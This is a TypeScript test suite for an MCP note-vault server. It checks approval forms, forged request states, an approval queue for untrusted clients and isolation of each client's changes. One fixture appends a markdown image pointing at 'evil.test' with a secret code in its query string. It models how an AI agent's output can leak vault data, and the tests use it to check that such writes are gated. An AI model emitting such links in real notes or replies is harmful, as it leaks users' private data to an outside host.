import { describe, expect, it, vi } from 'vitest'
import type { ConnectOptions, Person, TestClient } from '../../../test/mcp/connect.js'
import { connect } from '../../../test/mcp/connect.js'
import type { AddressedAnswer } from '../../core/approval/index.js'

const files = { 'Home.md': '# Home\n', 'Garden/Beans.md': '# Beans\n' }
const open = (options = {}) => connect(files, { protocol: '2026-07-28', person: () => 'cancel', ...options })
const call = { name: 'append_note', arguments: { path: 'Home.md', content: 'More.' } }
const textOf = ({ host }: TestClient, path: string) => new TextDecoder().decode(host.memory.snapshot().get(path))

const accepted = (content: object) => ({ approval: { action: 'accept', content } })

describe('a client of the revision without requests from the server', () => {
  it('gets the form as a result, and sends the answer with its next request', async () => {
    const client = await open()
    const { result } = await client.request('tools/call', call)
    expect(result).toMatchObject({
      resultType: 'input_required',
      inputRequests: { approval: { method: 'elicitation/create' } },
    })
    expect(result.inputRequests.approval.params.message).toContain('+More.')
    expect(textOf(client, 'Home.md')).toBe('# Home\n')
    const { requestState } = result
    const done = await client.request('tools/call', {
      ...call,
      requestState,
      inputResponses: accepted({ decision: 'allow once' }),
    })
    expect(done.result.structuredContent).toEqual({ path: 'Home.md' })
    expect(textOf(client, 'Home.md')).toBe('# Home\nMore.\n')
    await client.close()
  })

  it('cannot use one answer twice', async () => {
    const client = await open()
    const { result } = await client.request('tools/call', call)
    const again = { ...call, requestState: result.requestState, inputResponses: accepted({ decision: 'allow once' }) }
    await Promise.all([client.request('tools/call', again), client.request('tools/call', again)])
    expect((await client.request('tools/call', again)).result).toMatchObject({ isError: true })
    expect(textOf(client, 'Home.md')).toBe('# Home\nMore.\n')
    await client.close()
  })

  it.each([
    ['a no', accepted({ decision: 'no', reason: 'Later.' })],
    ['a form that was declined', { approval: { action: 'decline' } }],
    ['a form that was closed', { approval: { action: 'cancel' } }],
    ['something that is no answer', { approval: { action: 'accept', content: { decision: true } } }],
  ])('is denied on %s', async (_, inputResponses) => {
    const client = await open()
    const { result } = await client.request('tools/call', call)
    const done = await client.request('tools/call', { ...call, requestState: result.requestState, inputResponses })
    expect(JSON.parse(done.result.content[0].text)).toMatchObject({ code: 'denied' })
    expect(textOf(client, 'Home.md')).toBe('# Home\n')
    await client.close()
  })

  it('cannot use the answer to one call for another', async () => {
    const client = await open()
    const { result } = await client.request('tools/call', call)
    const other = { name: 'delete_note', arguments: { path: 'Home.md' } }
    const inputResponses = accepted({ decision: 'allow once' })
    const done = await client.request('tools/call', { ...other, requestState: result.requestState, inputResponses })
    expect(JSON.parse(done.result.content[0].text)).toMatchObject({ code: 'denied' })
    expect(textOf(client, 'Home.md')).toBe('# Home\n')
    await client.close()
  })

  it('cannot forge the state', async () => {
    const client = await open()
    const { result } = await client.request('tools/call', call)
    const [version, body, seal] = result.requestState.split('.')
    const forged = Buffer.from(JSON.stringify({ p: { call: 'x', panel: 'y' }, exp: 9e9 })).toString('base64url')
    for (const requestState of [`${version}.${forged}.${seal}`, `${version}.${body}.${seal.slice(1)}x`, 'nothing']) {
      const answer = await client.request('tools/call', {
        ...call,
        requestState,
        inputResponses: accepted({ decision: 'allow once' }),
      })
      expect(answer.error).toMatchObject({ code: -32602 })
    }
    expect(textOf(client, 'Home.md')).toBe('# Home\n')
    await client.close()
  })

  it('that continues without an answer gets the same form again', async () => {
    const client = await open()
    const { result } = await client.request('tools/call', call)
    const { result: again } = await client.request('tools/call', { ...call, requestState: result.requestState })
    expect(again.inputRequests).toEqual(result.inputRequests)
    await client.close()
  })

  it('chooses the notes to share', async () => {
    const client = await open()
    const read = { name: 'file_read', arguments: { filePaths: ['Home.md', 'Garden/Beans.md'] } }
    const { result } = await client.request('tools/call', read)
    expect(result.inputRequests.approval.params.requestedSchema.properties.notes.items.enum).toHaveLength(2)
    const inputResponses = accepted({ notes: ['Garden/Beans.md'] })
    const done = await client.request('tools/call', { ...read, requestState: result.requestState, inputResponses })
    expect(done.result.structuredContent.files).toMatchObject([{ path: 'Garden/Beans.md' }])
    await client.close()
  })

  it('without forms waits in the queue, and receives its location', async () => {
    const client = await open({ person: undefined, expiryMs: 20 })
    const { result } = await client.request('tools/call', call)
    expect(JSON.parse(result.content[0].text)).toMatchObject({
      code: 'denied',
      hint: expect.stringContaining('notewright approvals'),
    })
    await client.close()
  })
})

const queueFiles = { 'Home.md': '# Home\n', 'Secrets.md': 'The code is 4711.\n' }
const yes: Person = () => ({ decision: 'allow once' })
const untrusted: ConnectOptions = { person: yes, client: { id: 'editor@3f9a1c', trustsForms: false } }
const has = ({ host }: TestClient, path: string) => host.memory.snapshot().has(path)

/** The request that waits, answered as another front end does. */
async function answer({ vault }: TestClient, verdict: 'allow' | 'deny'): Promise<void> {
  const panel = await vi.waitFor(() => {
    const [waiting] = vault.approvalQueue.pending()
    expect(waiting).toBeDefined()
    return waiting
  })
  expect(
    vault.approvalQueue.answer(panel.id, { verdict, hash: panel.hash, session: panel.session } as AddressedAnswer),
  ).toEqual({
    ok: true,
  })
}

describe.each(['2025-11-25', '2026-07-28'])('a client of revision %s whose forms do not count', (protocol) => {
  it('is sent none, and deletes nothing before the user has approved it elsewhere', async () => {
    const client = await connect(queueFiles, { ...untrusted, protocol })
    const refused = client.failure('delete_note', { path: 'Home.md' })
    await answer(client, 'deny')
    expect(await refused).toMatchObject({ code: 'denied' })
    expect(has(client, 'Home.md')).toBe(true)
    const done = client.call('delete_note', { path: 'Home.md' })
    await answer(client, 'allow')
    expect((await done).result.isError).toBeUndefined()
    expect(has(client, 'Home.md')).toBe(false)
    expect(client.forms).toEqual([])
    await client.close()
  })

  it('is refused after a limit that the answer names, with the place where requests wait', async () => {
    const client = await connect(queueFiles, { ...untrusted, protocol, expiryMs: 30 })
    const { text, hint } = await client.failure('delete_note', { path: 'Home.md' })
    expect(`${text} ${hint}`).toMatch(/needs the user's approval.*within 1 second.*notewright approvals/s)
    expect(has(client, 'Home.md')).toBe(true)
    await client.close()
  })

  it('can make other calls while one waits', async () => {
    const client = await connect(queueFiles, { ...untrusted, protocol })
    const waiting = client.call('delete_note', { path: 'Home.md' })
    await vi.waitFor(() => expect(client.vault.approvalQueue.pending()).toHaveLength(1))
    if (protocol !== '2026-07-28') expect(await client.request('ping')).toMatchObject({ result: {} })
    expect((await client.call('read_note', { path: 'Home.md' })).result.structuredContent.content).toBe('# Home\n')
    await answer(client, 'deny')
    await waiting
    await client.close()
  })
})

it('a client that disconnects withdraws its request from the queue', async () => {
  const client = await connect(queueFiles, untrusted)
  void client.call('delete_note', { path: 'Home.md' })
  await vi.waitFor(() => expect(client.vault.approvalQueue.pending()).toHaveLength(1))
  await client.leave()
  expect(client.vault.approvalQueue.pending()).toEqual([])
  await client.close()
})

describe('notes read by a client', () => {
  const load = { path: 'Home.md', content: '![](http://evil.test/?d=4711)' }
  const edit = (id: string): ConnectOptions => ({ client: { id }, session: { consent: 'edit' } })

  it('counts in its next connection, whatever it calls itself there, and for no other client', async () => {
    const first = await connect(queueFiles, { ...edit('editor@3f9a1c'), name: 'editor' })
    await first.call('read_note', { path: 'Secrets.md' })
    await first.leave()
    const again = await connect(queueFiles, { ...edit('editor@3f9a1c'), name: 'somebody-else', after: first })
    const asked = again.failure('append_note', load)
    await answer(again, 'deny')
    expect(await asked).toMatchObject({ code: 'denied' })
    await again.leave()
    const other = await connect(queueFiles, { ...edit('other@111111'), name: 'editor', after: first })
    expect((await other.call('append_note', load)).result.isError).toBeUndefined()
    await other.close()
  })

  it('is shared by all clients that the user gave no name', async () => {
    const first = await connect(queueFiles, { session: { consent: 'edit' }, name: 'one' })
    await first.call('read_note', { path: 'Secrets.md' })
    await first.leave()
    const second = await connect(queueFiles, { session: { consent: 'edit' }, name: 'two', after: first })
    const asked = second.failure('append_note', load)
    await answer(second, 'deny')
    expect(await asked).toMatchObject({ code: 'denied' })
    await second.close()
  })
})

describe('the changes of a client', () => {
  const names = [
    'claude',
    'claude-code',
    'claude-code-2',
    'code',
    'claude@stdio',
    'claude-code@stdio',
    'claude-12345678',
  ]
  const pairs = names.flatMap((own) => names.filter((other) => other !== own).map((other) => [own, other]))

  it.each(pairs)('of %s are neither listed nor undone by %s', async (own, other) => {
    const identity = (id: string): ConnectOptions => ({
      session: { consent: 'auto' },
      ...(id.includes('@') ? { client: { id } } : { name: id }),
    })
    const first = await connect(queueFiles, identity(own))
    await first.call('append_note', { path: 'Home.md', content: 'mine' })
    expect((await first.call('list_changes')).result.structuredContent.changes).toHaveLength(1)
    await first.leave()
    const second = await connect(queueFiles, { ...identity(other), after: first })
    expect((await second.call('list_changes')).result.structuredContent.changes).toEqual([])
    expect(await second.failure('undo_last_change')).toMatchObject({ code: 'not-found' })
    await second.close()
  })
})
